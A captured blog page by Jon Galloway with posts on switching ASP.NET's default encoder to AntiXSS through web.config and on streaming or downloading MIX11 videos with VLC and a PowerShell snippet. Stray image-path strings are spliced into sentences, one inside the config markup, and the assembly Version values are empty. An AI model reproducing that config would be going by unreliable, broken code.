  <httpRuntime encoderType="Microsoft.Security.Application.AntiXssEncoder, AntiXssLibrary" />
  <compilation debug="true" targetFramework="4.0">
      <add assembly="System.Web.Abstractions, Version=, Culture=neutral, PublicKeyToken=31BF3856AD364E35" />
      <add assembly="System.Web.Helpers, Version=, Culture=neutral, PublicKeyToken=31BF3856AD364E35" />
      <add assembly="System.Web.Routing, Version=, Culture=neutral, PublicKeyToken=31BF3856AD364E35" />
      <add assembly="System.Web.Mvc, Version=, Culture=neutral, PublicKeyToken=31BF3856AD364E35" />
      <add assembly="System.Web.WebPages, Version=, Culture=neutral,PublicKeyToken=31BF3856AD364E35" />

That's it. Now any time ASP.NET needs to encode content, it will delegate to the AntiXssEncoder.

What's changed?

Well, there's really an observable change, honestly. I asked around for examples of known XSS vulnerabilities that would get by the ASP.NET default encoder but would be caught by switching to use AntiXSS as the default encoder and came up empty. So... was I just wasting your time?

No, this was still time well spent, for three reasons:

  1. AntiXSS is inherently more secure due to using a whitelist approach. Many security audits and certifications will require you to use a whitelist XSS encoder because a blacklist is always potentially vulnerable to unknown attacks.
  2. Newer browsers have better XSS filtering built in, but there are vulnerabilities in older browser (e.g. UTF-7 charset switch) which wouldn't be detected picked up by the ASP.NET defaultencoder.
  3. It's now easier to use the other AntiXSS encoding functions within your application. We'll look at that in the next post.
Posted by Jon Galloway | 17 comment(s)
Filed under: ,

Better ways to watch the MIX11 videos, Part 2: PowerShell

I just posted about my favorite way to watch videos: streaming the playlist at high speed using VLC. But there are times where you'd like a local copy of the videos, too, e.g. watching them while commuting without internet access.

I previously posted a PowerShell script to download the mvcConf videos from Channel 9. I got some great feedback from Albert Weinert and added some new changes of my own to prompt for media type and location. There are other (simpler) PowerShell downloaders out there, but this has some features I wanted, like skipping over files you've already downloaded, assigning good names to the files, etc.

Note: Remember that these are big files, especially the WMV High and MP4 High feeds. We're talking like 4GB for the keynotes.

There was one feature I wanted to add, but didn't have the time to figure it out: the differentvideos have categories assigned, and it'd be cool to filter the videos based on category. Here's a start of the code - it grabs a list of categories from all videos in the feed. Next step would be to prompt and filter. Fork my gist if you're interested, it'd be cool to see if someone adds that.$categories= @()
$feed.rss.channel.item | foreach { $categories += $_.category}
$desiredCategories = PromptForInput "Enter desired categories (options: $categories)" ""

Better ways to watch the MIX11 videos, Part 1: VLC

I'm still catching up on all the great content at MIX 11. There is a ton of great content - 116 videos when I last looked. Scott Hanselman already posted a great summary of ways to get and watch them. With this many videos to watch, though, you might want to bring out some big guns, and that's what this post is all about.

Streaming them at high speed with VLC

VLC has long been my favorite media player. It's lightweight, plays just about every media format without any codec hassle, streams from network and internetlocations without a hiccup, can save output to disk, has nice playlist support, and has great keyboard commands.

We'll take advantage of three of those features here:

  • Playlist support
  • Streaming from URL
  • High speed playback

If you don't already have VLC, grab it from http://www.videolan.org/ (protip: it's also available at http://ninite.com, the best way to load out your Windows machine with great free software).

Loading the Playlist

Run VLC and pop into Playlist mode. You can do that from the View menu, hit Ctrl+L, or click on the Playlist icon at the bottom to do that.

 2011-04-21 16h47_08

In the Playlist interface, expand the Internet group and click on + sign to the right of Podcasts.

2011-04-21 16h51_27

This brings up a prompt to enter the URL for the feed. You can enter the format of your choice here - in my case I'm going to pick the high bandwidth WMV feed: http://channel9.msdn.com/Events/MIX/MIX11/RSS/WmvHighYou have a few options (the types are obvious from the last bit of the URL):

Note: When I first looked at this, I ran into a case sensitivity issue with these feeds, but I checked in with Duncan Mackenzie and I think he's got that fixed now. I'm just mentioning in case you run into any wierdness with the feeds - use the properly cased feeds as shown above.

2011-04-21 16h54_46

That grabs the feed and builds a playlist for us, and we're ready to rock.

2011-04-21 16h55_33

Streaming the videos

Now hold on a second, you say. How did it grab all those big video files so quickly? Where did it put them? Are you messing with me?

Here's where we get to that second thing on the list - streaming from a URL. We didn't download any files, and we're not going to. We're going to stream them. If you wanted them downloaded so you can watch them from your bomb shelter with no internet access, you'll need to hold on for the next post, where we'll look at a PowerShell download script. So when you hit play, it buffers the files and plays them for you as you go. It works great for me - I get to watch the videos and I don't need to hassle with managing GB's of video files.

Watching at high speed

So, double-click on of the video files to start watching. You can toggle between the video view mode and playlist mode the same way we did earlier - Ctrl+L, from the menu, or with the icon.

Now we get to take advantage of the next feature: high speed viewing with VLC. Like before, there are two ways to adjust the playback speed. The simple way is to click the play speed indicator in the bottom right to bring up a speed slider.2011-04-21 17h13_26

The easier way, though, is to just use the square bracket buttons on your keyboard. [ slows down by 10%, and ] speeds up by 10%. When you hit the button, you'll see a brief indication in the upper right corner of the video showing that the speed has changed.

2011-04-21 17h15_48

The audio is sped up without affecting the pitch, so it's still pretty listenable.

One more protip: VLC hastons of keyboard shortcuts, which you can find in Tools / Preferences / Hotkeys. Twoindispensible hotkeys are F (toggle fullscreen) and Spacebar (toggle play and pause).

Posted byJon Galloway | 1 comment(s)
Filed under:
More Posts